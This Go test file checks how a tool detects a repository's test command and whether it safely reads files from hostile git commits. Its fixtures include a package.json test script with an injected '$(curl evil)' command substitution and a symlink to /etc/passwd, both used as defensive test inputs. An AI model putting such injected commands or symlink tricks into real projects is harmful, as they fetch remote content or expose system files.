package main_test

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	devaipod "codeberg.org/devaipod/devaipod/cmd/devaipod"
	"codeberg.org/devaipod/devaipod/mirror/cache"
)

func TestWhichCheckIsDetected(t *testing.T) {
	for name, tt := range map[string]struct {
		files map[string]string // those whose names end in a slash are folders
		want  string
	}{
		"nothing":                      {nil, ""},
		"a Makefile":                   {map[string]string{"Makefile": ".PHONY: test\n\ntest: build\n\tgo test\n", "go.mod": "module a\n"}, "make test"},
		"with Windows' ends of lines":  {map[string]string{"Makefile": "all:\r\ntest:\r\n\techo\r\n"}, "make test"},
		"among other targets":          {map[string]string{"Makefile": "lint test check::\n\ttrue\n"}, "make test"},
		"a Makefile without it":        {map[string]string{"Makefile": "tests: a\nall: test\ntest := 1\ntest::=2\ntest = 3\n\ttest:\n# test:\n"}, ""},
		"another goes before":          {map[string]string{"GNUmakefile": "all:\n", "Makefile": "test:\n", "go.mod": "module a\n"}, "go test ./..."},
		"one that is too large":        {map[string]string{"Makefile": strings.Repeat("# x\n", 100_000) + "test:\n", "Cargo.toml": "[package]\n"}, "cargo test"},
		"Go":                           {map[string]string{"go.mod": "module a\n"}, "go test ./..."},
		"a package":                    {map[string]string{"package.json": `{"scripts": {"test": "node --test; $(curl evil)"}}`}, "npm test"},
		"a package as npm init has it": {map[string]string{"package.json": `{"scripts": {"test": "echo \"Error: no test specified\" && exit 1"}}`}, ""},
		"a package without scripts":    {map[string]string{"package.json": `{"scripts": []}`}, ""},
		"pytest":                       {map[string]string{"pyproject.toml": "[project]\n[tool.pytest.ini_options]\n"}, "python3 -m pytest"},
		"Python without pytest":        {map[string]string{"pyproject.toml": "# [tool.pytest]\n", "setup.cfg": "[pytest]\n", "tox.ini": "[tox]\n"}, ""},
		"workflows":                    {map[string]string{"Makefile": "test:\n", ".forgejo/workflows/": ""}, ""},
		"what GitHub calls one":        {map[string]string{"go.mod": "module a\n", ".github/workflows/": ""}, ""},
	} {
		files := map[string][]byte{}
		for path, text := range tt.files {
			files[path] = []byte(text)
			if len(text) > 256<<10 { // as the cache has it
				files[path] = nil
			}
		}
		if got := devaipod.Detect(files); got != tt.want {
			t.Errorf("%s: %q, want %q", name, got, tt.want)
		}
	}
}

func FuzzDetect(f *testing.F) {
	f.Add([]byte("test: all\n"), []byte(`{"scripts":{"test":"x"}}`))
	f.Fuzz(func(t *testing.T, makefile, pkg []byte) {
		switch got := devaipod.Detect(map[string][]byte{"Makefile": makefile, "package.json": pkg, "tox.ini": makefile}); got {
		case "", "make test", "npm test", "python3 -m pytest":
		default:
			t.Errorf("%q", got)
		}
	})
}

// What a commit has instead of files is not followed, and is not read where it is large.
func TestFilesOfAHostileCommit(t *testing.T) {
	work, bare := t.TempDir(), filepath.Join(t.TempDir(), "repo.git")
	git := func(args ...string) string {
		t.Helper()
		cmd := exec.CommandContext(t.Context(), "git", append([]string{"-C", work, "-c", "user.name=a", "-c", "user.email=a@example.org"}, args...)...)
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	write := func(path string, text []byte) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(filepath.Join(work, path)), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(work, path), text, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	git("init", "--quiet", "--initial-branch=main")
	write("Makefile", bytes.Repeat([]byte("test:\n"), 1<<20))
	write("go.mod/inner", []byte("a folder"))
	write("tox.ini", []byte("[pytest]\n"))
	if err := os.Symlink("/etc/passwd", filepath.Join(work, "package.json")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("Makefile", filepath.Join(work, ".github")); err != nil {
		t.Fatal(err)
	}
	git("add", ".")
	git("commit", "--quiet", "-m", "one")
	// A submodule by the name of a file.
	git("update-index", "--add", "--cacheinfo", "160000,"+git("rev-parse", "HEAD")+",Cargo.toml")
	git("commit", "--quiet", "-m", "two")
	commit := git("rev-parse", "HEAD")
	git("clone", "--quiet", "--bare", work, bare)

	files, err := cache.FilesIn(t.Context(), bare, commit, 256<<10, devaipod.DetectPaths...)
	if err != nil {
		t.Fatal(err)
	}
	if len(files) != 3 || files["Makefile"] != nil || string(files["tox.ini"]) != "[pytest]\n" {
		t.Errorf("%d files: %.200q", len(files), files)
	}
	if _, folder := files["go.mod/"]; !folder {
		t.Errorf("%.200q", files)
	}
	if got := devaipod.Detect(files); got != "python3 -m pytest" {
		t.Errorf("%q", got)
	}
	if _, err := cache.FilesIn(t.Context(), bare, strings.Repeat("0", 40), 1, "a"); err == nil {
		t.Error("a commit that is not there has files")
	}
}
